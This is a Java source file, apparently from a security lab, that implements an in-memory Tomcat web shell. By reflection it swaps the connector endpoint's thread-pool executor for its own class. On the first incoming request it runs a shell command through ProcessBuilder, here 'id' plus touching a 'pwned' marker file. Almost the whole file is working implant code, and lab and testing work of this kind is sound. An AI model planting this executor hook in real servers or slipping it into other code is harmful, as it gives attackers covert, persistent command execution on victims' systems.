import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.ThreadPoolExecutor;
import java.util.concurrent.TimeUnit;
import org.apache.catalina.Service;
import org.apache.catalina.core.StandardContext;
import org.apache.coyote.AbstractProtocol;
import org.apache.tomcat.util.net.AbstractEndpoint;
import org.apache.tomcat.util.net.SocketWrapperBase;
import whorl.lab.attack.TomcatContext;

/** Puts itself in the place of the endpoint's thread pool. */
public class Shell extends ThreadPoolExecutor {
  public Shell() throws Exception {
    super(4, 50, 60, TimeUnit.SECONDS, new LinkedBlockingQueue<>());
    StandardContext context = TomcatContext.current();
    Service service = ((org.apache.catalina.Engine) context.getParent().getParent()).getService();
    Object protocol = service.findConnectors()[0].getProtocolHandler();
    AbstractEndpoint<?, ?> endpoint =
        (AbstractEndpoint<?, ?>) TomcatContext.field((AbstractProtocol<?>) protocol, "endpoint");
    endpoint.setExecutor(this);
  }

  @Override
  public void execute(Runnable task) {
    try {
      Object socket = TomcatContext.field(task, "socketWrapper");
      if (socket instanceof SocketWrapperBase<?> wrapper
          && wrapper.getRemoteAddr() != null
          && System.getProperty("shell.used") == null) {
        System.setProperty("shell.used", "yes");
        run("id; touch " + System.getProperty("lab.work") + "/pwned");
      }
    } catch (Exception e) {
      e.printStackTrace();
    }
    super.execute(task);
  }

  private static String run(String order) throws java.io.IOException {
    return new String(
        new ProcessBuilder("sh", "-c", order).start().getInputStream().readAllBytes());
  }
}
